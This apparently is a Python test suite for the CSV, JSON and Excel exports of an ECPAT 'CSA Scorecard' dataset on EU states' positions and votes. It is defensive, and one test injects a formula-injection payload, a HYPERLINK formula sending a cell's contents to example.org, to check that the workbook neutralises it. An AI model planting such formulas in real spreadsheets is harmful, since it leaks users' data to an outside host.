"""The data: what a researcher reads back is what the evidence and the pages say, and no spreadsheet runs it."""

import csv
import io
import json
import zipfile
from datetime import date
from pathlib import Path

import frictionless
import openpyxl
import pytest
import yaml

from scorecard import __version__
from scorecard.analysis.figures import Figures, compute
from scorecard.building.data_files import csv_bytes, data_document, data_files, data_in_languages, json_bytes
from scorecard.building.workbook import xlsx_bytes
from scorecard.documents.common_figures import common_figures
from scorecard.documents.council_box import QUESTION
from scorecard.documents.data import Cell, Field, Table, citation, data_tables
from scorecard.documents.scorecard import scorecard
from scorecard.evidence.known_evidence import known_evidence
from scorecard.evidence.load import Evidence, load
from scorecard.evidence.vocabulary import STATES, State
from tests.conftest import ROOT, Change

DAY = date(2026, 11, 24)
EARLY = date(2024, 6, 20)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")

Record = dict[str, Cell]


@pytest.fixture(scope="module")
def tables(evidence: Evidence, figures: Figures) -> dict[str, Table]:
    return {table.name: table for table in data_tables(evidence, figures)}


@pytest.fixture(scope="module")
def early(evidence: Evidence) -> dict[str, Table]:
    known = known_evidence(evidence, EARLY)
    return {table.name: table for table in data_tables(known, compute(known, EARLY))}


@pytest.fixture(scope="module")
def folder(evidence: Evidence, figures: Figures, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Returns the data of the edition, as a researcher finds it."""
    folder = tmp_path_factory.mktemp("data")
    written(folder, evidence, figures)
    return folder


def written(folder: Path, evidence: Evidence, figures: Figures) -> None:
    for name, content in data_files(data_document(evidence, figures)).items():
        (folder / name).write_bytes(content)


def records(table: Table) -> list[Record]:
    names = [field.name for field in table.fields]
    return [dict(zip(names, row, strict=True)) for row in table.rows]


def one_column(*texts: str) -> Table:
    field = Field("words", "string", "Words.")
    return Table("hostile", "Hostile", "Words from elsewhere.", (field,), tuple((text,) for text in texts))


def as_read(text: str, field: Field) -> Cell:
    """Returns a value as a reader of the CSV gets it by the types of datapackage.json."""
    if text == "":
        return None
    match field.type:
        case "boolean":
            return {"true": True, "false": False}[text]
        case "integer":
            return int(text)
        case "number":
            return float(text)
        case "string":
            return text


def test_every_value_has_the_type_of_its_field(tables: dict[str, Table]) -> None:
    kinds = {"string": (str,), "integer": (int,), "number": (int, float), "boolean": (bool,)}
    for table in tables.values():
        assert table.rows, table.name
        for row in table.rows:
            for field, value in zip(table.fields, row, strict=True):
                place = f"{table.name}.{field.name}: {value!r}"
                assert value is None or isinstance(value, kinds[field.type]), place
                assert value != "", place
                assert not isinstance(value, bool) or field.type == "boolean", place


def test_every_column_is_described_and_named_once(tables: dict[str, Table]) -> None:
    for table in tables.values():
        names = [field.name for field in table.fields]
        assert len(set(names)) == len(names), table.name
        for field in table.fields:
            assert field.description.endswith("."), f"{table.name}.{field.name}"
            assert "\n" not in field.description, f"{table.name}.{field.name}"


def test_the_edition_is_there_in_full(tables: dict[str, Table]) -> None:
    counted = {name: len(table.rows) for name, table in tables.items()}
    assert counted["states"] == 27
    assert counted["statements"] == 456
    assert counted["positions"] == 27 * 9
    assert counted["survey_results"] == 104
    assert counted["roll_calls"] == 7
    assert counted["stance_counts"] == 9 * 10
    assert counted["council"] == 27
    assert counted["legal_steps"] == 2 * 27


def test_unknown_positions_are_rows_that_say_so(tables: dict[str, Table]) -> None:
    unknown = [row for row in records(tables["positions"]) if row["stance"] == "unknown"]
    assert len([row for row in unknown if row["state"] == "MT"]) == 8
    for row in unknown:
        if row["last_word"] or row["implied_by"]:
            assert row["date"] and row["source_url"]
            continue
        assert row["said"] == 0
        assert {row[name] for name in ("date", "text", "entry", "quality", "source", "source_url")} == {None}


def test_members_add_up_to_the_official_totals(tables: dict[str, Table]) -> None:
    votes = records(tables["votes"])
    for call in records(tables["roll_calls"]):
        for ballot, total in (("for", "in_favour"), ("against", "against"), ("abstained", "abstained")):
            members = [
                row["members"] for row in votes if (row["roll_call"], row["ballot"]) == (call["roll_call"], ballot)
            ]
            assert sum(int(count or 0) for count in members) == call[total], (call["roll_call"], ballot)


@pytest.mark.parametrize("state", ["DE", "NL", "PT"])
def test_what_a_scorecard_prints_stands_in_the_tables(
    state: State, tables: dict[str, Table], evidence: Evidence, figures: Figures
) -> None:
    document = scorecard(evidence, figures, common_figures(evidence, figures), state)
    mine = {name: [row for row in records(table) if row.get("state") == state] for name, table in tables.items()}
    for vote in document.delegation.votes:
        members = [row for row in mine["votes"] if row["roll_call"] == vote.key]
        assert sum(int(row["members"] or 0) for row in members) == vote.seats
        assert sum(int(row["members"] or 0) for row in members if row["ballot"] == "for") == vote.in_favour
    printed = [
        (poll.bar.share.per_cent, poll.bar.low, poll.bar.high, poll.asks["en"])
        for block in document.surveys
        for poll in block.polls
    ]
    assert printed
    published = [(row["share"], row["low"], row["high"], row["asks"]) for row in mine["survey_results"]]
    assert set(printed) <= set(published)
    assert [row.stance for row in document.aspects] == [
        "implied" if row["implied_by"] else row["stance"] for row in mine["positions"]
    ]
    low, high = (mine["alignment"][0][end] for end in ("low", "high"))
    expected = {} if low is None else {"low": int(float(low) + 0.5), "high": int(float(high or 0) + 0.5)}
    assert document.alignment.figure.values == expected


def test_the_council_adds_up(tables: dict[str, Table]) -> None:
    rows = records(tables["council"])
    assert sum(int(row["population_hundredths"] or 0) for row in rows) in range(9_990, 10_011)
    for index in ("banzhaf_percent", "shapley_shubik_percent"):
        assert sum(float(row[index] or 0) for row in rows) == pytest.approx(100, abs=27e-6)
    positions = {row["state"]: row["stance"] for row in records(tables["positions"]) if row["aspect"] == QUESTION}
    groups = {
        "in_favour": {"supports", "leans_support"},
        "not_in_favour": {"opposes", "leans_oppose", "abstains"},
        "undecided": {"undecided"},
        **{group: {"unknown"} for group in ("implied", "another_text", "former", "unknown")},
    }
    for row in rows:
        assert positions[row["state"]] in groups[str(row["group"])]


def test_a_state_for_which_no_legal_step_was_found_has_a_row_that_says_so(tables: dict[str, Table]) -> None:
    german = next(
        row
        for row in records(tables["legal_steps"])
        if (row["instrument"], row["state"]) == ("directive_2011_93", "DE")
    )
    assert (german["date"], german["source"], german["source_url"]) == (None, None, None)
    assert german["step"]


def test_a_moment_in_the_council_has_a_row_a_state_and_one_where_nobody_is_named(
    tables: dict[str, Table], evidence: Evidence
) -> None:
    rows = records(tables["council_moments"])
    for number, moment in enumerate(evidence.council.moments):
        mine = [(row["state"], row["stand"]) for row in rows if row["moment"] == number]
        assert {state for state, stand in mine if stand == "against"} == set(moment.against)
        named = [*moment.in_favour, *moment.against, *moment.abstaining, *moment.undecided]
        assert len(mine) == len(named) or mine == [(None, None)]


@pytest.mark.parametrize("when", ["tables", "early"])
def test_every_key_leads_to_its_row(when: str, request: pytest.FixtureRequest) -> None:
    found: dict[str, Table] = request.getfixturevalue(when)
    texts = {row["text"] for row in records(found["texts"])}
    sources = {(row["scope"], row["source"]): row["url"] for row in records(found["sources"])}
    statements = {(row["state"], row["entry"]) for row in records(found["statements"])}
    for table in found.values():
        for row in records(table):
            assert row.get("text") in texts | {None}
            assert row.get("superseded_by") in texts | {None}
            if "source_url" in row and row["source"] is not None:
                scope = row.get("state") if table.name != "council_moments" else "EU"
                own = sources.get((row.get("scope", scope), row["source"]))
                assert row["source_url"] == (own or sources["EU", row["source"]]), (table.name, row)
            for key in str(row.get("also") or "").split():
                assert any(key == known for _, known in sources), (table.name, key)
    for row in records(found["positions"]):
        assert row["entry"] is None or (row["state"], row["entry"]) in statements
        for rival in str(row["contested_by"] or "").split():
            assert (row["state"], int(rival)) in statements


def test_an_earlier_day_holds_nothing_later(early: dict[str, Table], tables: dict[str, Table]) -> None:
    for name in ("statements", "positions", "events", "council_moments", "roll_calls"):
        assert all(str(row["date"] or "") <= EARLY.isoformat() for row in records(early[name])), name
        assert name == "positions" or len(early[name].rows) < len(tables[name].rows)
    assert {row["roll_call"] for row in records(early["votes"])} == {"2021-07-06", "2024-02-07", "2024-04-10"}
    belgian = next(row for row in records(early["texts"]) if row["text"] == "be-2024")
    assert belgian["superseded_by"] is None


def test_csv_read_back_is_the_table(tables: dict[str, Table], folder: Path) -> None:
    for table in tables.values():
        with (folder / f"{table.name}.csv").open(encoding="utf-8-sig", newline="") as file:
            header, *rows = csv.reader(file)
        assert header == [field.name for field in table.fields]
        read = [tuple(as_read(text, field) for text, field in zip(row, table.fields, strict=True)) for row in rows]
        assert read == list(table.rows)


def test_a_sentence_beside_the_csv_says_to_take_the_workbook(folder: Path) -> None:
    first, *others = (folder / "README.txt").read_text("utf-8").split("\n\n")
    assert first == "For a spreadsheet take csa-scorecard.xlsx; the CSV files, in UTF-8, are for programs."
    assert any(line.startswith("Cite as: ") for line in others)


def test_json_says_what_csv_says(tables: dict[str, Table], folder: Path) -> None:
    content = json.loads((folder / "csa-scorecard.json").read_text("utf-8"))
    assert content == {table.name: records(table) for table in tables.values()}


def test_a_share_published_without_decimals_has_none() -> None:
    share = Table("shares", "Shares", "Shares.", (Field("share", "number", "A share."),), ((78.0,), (2.05,)))
    assert csv_bytes(share) == b"\xef\xbb\xbfshare\r\n78\r\n2.05\r\n", "a spreadsheet reads it as UTF-8"
    assert json.loads(json_bytes([share]), parse_float=str, parse_int=str)["shares"] == [
        {"share": "78"},
        {"share": "2.05"},
    ]


def test_the_workbook_has_a_readme_and_a_sheet_a_table(tables: dict[str, Table], folder: Path) -> None:
    book = openpyxl.load_workbook(folder / "csa-scorecard.xlsx")
    assert book.sheetnames == ["README", *tables]
    told = [str(cell) for row in book["README"].iter_rows(values_only=True) for cell in row if cell]
    assert any("CC BY 4.0" in line and "ECPAT International" in line for line in told)
    for table in tables.values():
        sheet = book[table.name]
        assert sheet.freeze_panes == "A2"
        header, *rows = sheet.iter_rows()
        assert [cell.value for cell in header] == [field.name for field in table.fields]
        assert all(cell.font.bold for cell in header)
        for row, expected in zip(rows, table.rows, strict=True):
            for cell, value in zip(row, expected, strict=True):
                assert cell.value == (pytest.approx(value) if isinstance(value, float) else value)
        assert {field.description for field in table.fields} <= set(told)
    for each in book.worksheets:
        for row in each.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                assert not (isinstance(cell.value, str) and cell.value.startswith(DANGEROUS)), cell.value


@pytest.mark.parametrize("first", DANGEROUS)
def test_no_text_can_become_a_formula(first: str) -> None:
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([one_column(f"{first}1+1")], ["A line.", f"{first}2"], DAY)))
    cell = book["hostile"]["A2"]
    assert (cell.data_type, str(cell.value)[:1]) == ("s", "'")
    assert str(book["README"]["A2"].value).startswith("'")


def test_a_formula_in_the_evidence_is_neutralised_in_the_workbook_and_exact_in_csv(
    project: Path, change: Change, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("https://example.org/?steal="&A1)'
    change("AT.yaml", "says: {en: Supports the text.}", f"says: {{en: '{formula}'}}")
    evidence = load(project)
    written(tmp_path, evidence, compute(evidence, DAY))
    sheet = openpyxl.load_workbook(tmp_path / "csa-scorecard.xlsx")["statements"]
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(2, header.index("says_en") + 1)
    assert (cell.data_type, cell.value) == ("s", f"'{formula}")
    with (tmp_path / "statements.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert rows[0]["says_en"] == formula
    assert json.loads(rows[1]["says_other"]) == {"de": "Lehnt Anordnungen ab."}
    assert frictionless.validate(str(tmp_path / "datapackage.json")).valid


def test_a_control_character_does_not_break_the_workbook() -> None:
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([one_column("a\x07b")], [], DAY)))
    assert book["hostile"]["A2"].value == "a\N{REPLACEMENT CHARACTER}b"


def test_the_data_package_is_valid_and_notices_a_changed_file(folder: Path, tmp_path: Path) -> None:
    report = frictionless.validate(str(folder / "datapackage.json"))
    assert report.valid, report.flatten(["name", "type", "message"])
    assert len(report.tasks) == len(list(folder.glob("*.csv")))
    for path in folder.iterdir():
        (tmp_path / path.name).write_bytes(path.read_bytes())
    table = tmp_path / "roll_calls.csv"
    table.write_bytes(table.read_bytes().replace(b",false,", b",true,", 1))
    assert not frictionless.validate(str(tmp_path / "datapackage.json")).valid


def test_the_data_package_says_whose_it_is_and_what_every_field_means(folder: Path, tables: dict[str, Table]) -> None:
    package = json.loads((folder / "datapackage.json").read_text("utf-8"))
    assert (package["profile"], package["version"]) == ("tabular-data-package", "2026")
    assert package["licenses"][0]["name"] == "CC-BY-4.0"
    assert "evidence to 2026-11-24" in package["description"]
    for resource in package["resources"]:
        described = {field["name"]: field["description"] for field in resource["schema"]["fields"]}
        assert described == {field.name: field.description for field in tables[resource["name"]].fields}


def test_the_same_bytes_again_and_no_time_of_writing(
    evidence: Evidence, figures: Figures, folder: Path, tmp_path: Path
) -> None:
    for name, content in data_files(data_document(evidence, figures)).items():
        assert content == (folder / name).read_bytes(), name
    with zipfile.ZipFile(folder / "csa-scorecard.xlsx") as book:
        assert {part.date_time for part in book.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert book.read("docProps/core.xml").count(b"2026-11-24T00:00:00Z") == 2


def test_the_citation_names_publisher_edition_date_and_licence(evidence: Evidence) -> None:
    assert citation(evidence, DAY) == (
        "ECPAT International: CSA Scorecard, edition 2026, evidence to 2026-11-24. https://ecpat.org. "
        "Licence: CC BY 4.0."
    )
    assert "evidence to 2024-06-20" in citation(evidence, EARLY)
    assert "evidence to 2026-11-24" in citation(evidence, date(2030, 1, 1))


def test_the_citation_file_cites_this_version() -> None:
    cited = yaml.safe_load((ROOT / "CITATION.cff").read_text("utf-8"))
    assert (cited["cff-version"], cited["version"], cited["license"]) == ("1.2.0", __version__, "EUPL-1.2")
    assert [author["name"] for author in cited["authors"]] == ["CSA Scorecard contributors"]


def test_all_27_are_in_the_table_of_states(tables: dict[str, Table], evidence: Evidence) -> None:
    rows = {row["state"]: row for row in records(tables["states"])}
    assert tuple(rows) == STATES
    assert {state: rows[state]["population_share"] for state in STATES} == evidence.population.official.percent


def test_labels_are_in_the_languages_of_the_edition(evidence: Evidence, figures: Figures) -> None:
    *_, labels = data_in_languages(evidence, figures, ("en", "de")).tables
    assert labels.name == "labels"
    assert {row[0] for row in labels.rows} == {"en", "de"}
    german = [row[1:] for row in labels.rows if row[0] == "de"]
    assert [code for kind, code, _ in german if kind == "state"][:4] == ["BE", "BG", "DK", "DE"], "in German order"
    assert ("state", "DE", "Deutschland") in german
    english = {(kind, code): label for language, kind, code, label in labels.rows if language == "en"}
    assert english["stance", "leans_support"] == "Leans towards"
    assert english["aspect", "eu_centre"] == "EU Centre"
    assert len(english) == len(german) == 27 + 9 + 7 + 4 + 4 + 5 + 3
